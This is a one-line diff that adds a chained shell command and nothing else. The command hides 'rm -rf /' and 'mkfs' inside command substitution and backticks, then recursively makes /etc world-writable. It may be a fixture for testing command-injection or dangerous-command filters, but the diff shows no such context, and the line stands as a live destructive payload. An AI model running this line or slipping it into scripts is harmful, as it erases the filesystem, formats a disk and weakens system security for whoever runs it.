@@ -1,0 +1,1 @@
+echo "$(rm -rf /)" && ls | xargs sh -c `mkfs /dev/x`; (chmod -R 777 /etc)
